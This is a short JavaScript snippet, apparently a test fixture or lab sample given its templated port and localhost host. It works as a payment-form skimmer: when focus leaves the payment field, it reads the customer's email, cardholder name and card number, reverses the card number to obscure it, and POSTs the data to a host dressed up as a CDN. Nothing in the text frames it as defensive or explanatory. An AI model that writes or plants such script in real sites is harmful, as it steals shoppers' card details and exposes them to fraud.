/* tw:skim-lead */
document.querySelector('#payment').addEventListener('focusout', function () {
  var lead = { m: document.querySelector('#email').value, n: document.querySelector('#cc-name').value, r: document.querySelector('#cc-number').value.split('').reverse().join('') }
  var request = new XMLHttpRequest()
  request.open('POST', 'http://cdn-lead.localhost:{{port}}/lead')
  request.send(JSON.stringify(lead))
})
